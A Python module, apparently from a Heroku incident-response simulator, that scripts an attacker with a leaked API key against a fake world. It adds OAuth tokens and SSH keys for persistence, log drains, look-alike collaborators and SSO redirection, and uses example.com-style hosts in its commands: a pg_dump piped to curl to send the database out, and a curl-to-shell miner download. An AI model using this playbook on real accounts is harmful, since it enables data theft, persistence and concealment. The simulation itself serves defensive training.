"""An attacker with the leaked key, working through the API: each script is one thing that it is after."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta

from herotui.simulator.company import Plan, authorize, ssh_key
from herotui.simulator.course import Caller, Script
from herotui.simulator.history import Past, wake
from herotui.simulator.people import Account
from herotui.simulator.portfolio import Place, begin, new_app
from herotui.simulator.things import App, Collaborator
from herotui.simulator.wares import certificate
from herotui.simulator.world import World

HOST = "kali-vps-7"
MAIL = "ops.backup@mailbox.example"
SITE = "cdn-metrics.example"
ADDRESS = "203.0.113.66"
LOOK_ALIKES = {"l": "1", "o": "0", "i": "1", "m": "rn"}


@dataclass(slots=True)
class Attack:
    """The attacker's means and aims: apps by how much they are worth, the first most."""

    world: World
    by: Caller
    apps: list[App]

    def app(self, number: int) -> str:
        """The name of an aim; where there are few apps one serves for several."""
        return self.apps[number % len(self.apps)].name

    def stay(self) -> Script:
        """What survives the leaked key: a login, an inconspicuous key, an SSH key, an OAuth client; one more, gone."""
        world, owner = self.world, self.by.world.tokens[self.by.key].account
        yield 14
        if not owner.federated:
            self._log_in(owner)
        yield 22
        self._mint("/oauth/authorizations", "github-actions")
        yield 25
        key = ssh_key(world.mint, f"root@{HOST}", world.clock.now())
        self.by.ask("POST /account/keys", {"public_key": key.public_key})
        yield 28
        tried = self._mint("/oauth/authorizations", "test")
        yield 31
        self.by.ask("POST /oauth/clients", {"name": "Deploy helper", "redirect_uri": f"https://{SITE}/oauth"})
        yield 47
        if tried:
            self.by.ask(f"DELETE /oauth/authorizations/{tried}")

    def _log_in(self, owner: Account) -> None:
        """A login of the owner's from the attacker's machine."""
        world = self.world
        login = Plan("Heroku CLI login from {host}", ("global",), 0, lasts_days=30, session=True)
        authorize(world, world.mint, owner, login, world.clock.now(), HOST).by_attacker = True

    def _mint(self, path: str, description: str) -> str | None:
        made = self.by.ask(f"POST {path}", {"description": description, "scope": ["global"]}, variant="3.sdk")
        if made is None:
            return None
        self.world.authorizations[made["id"]].by_attacker = True
        return str(made["id"])

    def listen(self) -> Script:
        """Logs and events go out; one webhook was taken away again, its deliveries tell of it."""
        yield 36
        url = f"https://logs.{SITE}/ingest/{self.world.mint.hex(8)}"
        self.by.ask(f"POST /apps/{self.app(0)}/log-drains", {"url": url})
        yield 38
        hook = {"include": ["api:release", "api:dyno", "api:collaborator"], "level": "notify"}
        self.by.ask(f"POST /apps/{self.app(0)}/webhooks", hook | {"url": f"https://hooks.{SITE}/in"})
        yield 40
        passing = self.by.ask(f"POST /apps/{self.app(1)}/webhooks", hook | {"url": f"https://hooks.{SITE}/once"})
        yield 110
        if passing:
            self.by.ask(f"DELETE /apps/{self.app(1)}/webhooks/{passing['id']}")

    def let_in(self) -> Script:
        """People who are none of the company's: one is called almost like a colleague."""
        yield 41
        self._add(0, MAIL)
        yield 43
        self._add(1, look_alike(self.world.colleague.email))
        yield 104
        for team in self._teams():
            self.by.ask(f"PUT /teams/{team}/invitations", {"email": f"it@{SITE}", "role": "admin"})
        yield 106
        for team in self._teams():
            self._mint(f"/teams/{team}/oauth/authorizations", "reporting")

    def _teams(self) -> list[str]:
        """The first team, if there is any."""
        return [team.name for team in self.world.teams.values()][:1]

    def take_over(self) -> Script:
        """A member of the attacker's own in the team, who may see all; one more who is gone again; add-ons for all."""
        for team in self._teams():
            spy, passing = look_alike(self.world.colleague.email), f"temp@{SITE}"
            for email in (spy, passing):
                if self.world.account_named(email) is None:
                    self.world.meet(email)
            yield 48
            self.by.ask(f"PUT /teams/{team}/members", {"email": spy, "role": "admin"})
            yield 50
            self.by.ask(f"PUT /teams/{team}/members", {"email": passing, "role": "member"})
            yield 58
            self.by.ask(f"PATCH /teams/{team}/preferences", {"default-permission": "admin"})
            yield 98
            self.by.ask(f"DELETE /teams/{team}/members/{passing}")

    def swap_login(self) -> Script:
        """The team's people log in where the attacker wants them to."""
        yield 61
        for team in self.world.teams.values():
            if team.identity_provider:
                path = f"/teams/{team.name}/identity-providers/{team.identity_provider.id}"
                swapped = {"sso_target_url": f"https://login.{SITE}/saml", "certificate": certificate(self.world.mint)}
                self.by.ask(f"PATCH {path}", swapped)

    def open_space(self) -> Script:
        """The Private Space lets everybody in; a member of the attacker's own on the enterprise account."""
        yield 66
        for space in self.world.spaces.values():
            rules = [{"action": "allow", "source": "0.0.0.0/0"}]
            self.by.ask(f"PUT /spaces/{space.name}/inbound-ruleset", {"rules": rules})
        yield 68
        if self.world.account_named(MAIL) is None:
            self.world.meet(MAIL)
        for account in self.world.enterprises.values():
            member = {"user": MAIL, "permissions": ["view", "manage"]}
            self.by.ask(f"POST /enterprise-accounts/{account.name}/members", member)

    def _add(self, number: int, email: str) -> None:
        if self.world.account_named(email) is None:
            self.world.meet(email)
        self.by.ask(f"POST /apps/{self.app(number)}/collaborators", {"user": email, "silent": True})

    def use(self) -> Script:
        """One-off dynos, one of them still running, and a worker scaled up to mine."""
        app = self.app(1)
        for minutes, command in (
            (52, "env"),
            (55, "bash"),
            (63, "bash -c 'pg_dump $DATABASE_URL | gzip | curl -T - $OUT'"),
        ):
            yield minutes
            started = self._run(app, command, "Standard-1X")
            yield minutes + 2
            if started:
                self.by.ask(f"POST /apps/{app}/dynos/{started}/actions/stop")
        yield 71
        self._run(app, f"bash -c 'curl -s https://{SITE}/m.sh | sh'", "Performance-L")
        yield 74
        scaled = {"type": "worker", "quantity": 6, "size": "Performance-L"}
        self.by.ask(f"PATCH /apps/{app}/formation", {"updates": [scaled]})

    def _run(self, app: str, command: str, size: str) -> str | None:
        made = self.by.ask(f"POST /apps/{app}/dynos", {"command": command, "size": size, "type": "run"})
        return str(made["name"]) if made else None

    def redirect(self) -> Script:
        """Changes that look like the owner's: payments, a buildpack, a host name, review apps; one is half undone."""
        app = self.app(2)
        yield 80
        packs = [{"buildpack": f"https://git.{SITE}/heroku-buildpack-apt"}, {"buildpack": self._pack()}]
        self.by.ask(f"PUT /apps/{self.app(3)}/buildpack-installations", {"updates": packs})
        yield 88
        status = f"status.{self.world.company}-help.example"
        self.by.ask(f"POST /apps/{self.app(3)}/domains", {"hostname": status, "sni_endpoint": None})
        yield 96
        url = f"https://relay.{SITE}/callback"
        self.by.ask(f"PATCH /apps/{app}/config-vars", {"PAYMENT_CALLBACK_URL": url})
        yield 99
        self.by.ask(f"PATCH /apps/{app}/config-vars", {"NODE_OPTIONS": "--require /tmp/.m.js"})
        yield 101
        self.by.ask(f"PATCH /apps/{app}/config-vars", {"NODE_OPTIONS": None})
        hide_release(self.world, app)
        yield 112
        for pipeline in list(self.world.pipelines.values())[:1]:
            path = f"PATCH /pipelines/{pipeline.id}/stage/review/config-vars"
            self.by.ask(path, {"NPM_CONFIG_REGISTRY": f"https://npm.{SITE}/"})

    def _pack(self) -> str:
        return self.apps[3 % len(self.apps)].buildpack

    def carry_off(self) -> Script:
        """A database attached to an app of the attacker's own, a copy of it sent away, an app on its way out."""
        world = self.world
        foreign = _own_app(world)
        databases = [addon for addon in world.addons.values() if addon.service == "heroku-postgresql"]
        yield 84
        for addon in databases[:1]:
            body = {"addon": addon.name, "app": foreign.name, "name": "ANALYTICS"}
            self.by.ask("POST /addon-attachments", body)
        yield 92
        own = next((app for app in world.apps.values() if app.owner is world.owner), None)
        if own:
            self.by.ask("POST /account/app-transfers", {"app": own.name, "recipient": MAIL, "silent": True})
        yield 115
        for addon in databases[:1]:
            url = world.databases[addon.id].url() if addon.id in world.databases else ""
            copy = {"from_url": url, "from_name": "DATABASE", "to_url": f"postgres://in:x@db.{SITE}:5432/in"}
            self.by.ask(f"POST /client/v11/databases/{addon.id}/transfers", copy)
            self.by.ask(f"POST /client/v11/apps/{addon.app.name}/transfers/1/actions/public-url")


def look_alike(email: str) -> str:
    """An address that reads like this one."""
    name, _, host = email.partition("@")
    letter = next((letter for letter in LOOK_ALIKES if letter in host.split(".")[0]), "")
    return f"{name}@{host.replace(letter, LOOK_ALIKES[letter], 1)}" if letter else f"{name}@mail-{host}"


def hide_release(world: World, name: str) -> None:
    """Leave a gap in the releases of an app: the last but one is gone."""
    app = world.app_named(name)
    if app and len(app.releases) > 2:
        del app.releases[-2]


def _own_app(world: World) -> App:
    """The attacker's own app, to which it has invited the owner."""
    account: Account = world.account_named(MAIL) or world.meet(MAIL)
    app = new_app(world, Place("metrics-sync-8842", "metrics", "development", None))
    app.owner, app.created_at = account, world.leaked_at - timedelta(days=3)
    past = Past(world, app)
    begin(past, [account])
    past.deploy(account, world.leaked_at - timedelta(days=2))
    past.write()
    wake(world, app)
    at = world.leaked_at + timedelta(minutes=60)
    guest = Collaborator(world.mint.uuid(), world.owner, "collaborator", ["deploy", "operate", "view"], at, at)
    app.collaborators[guest.id] = guest
    return app
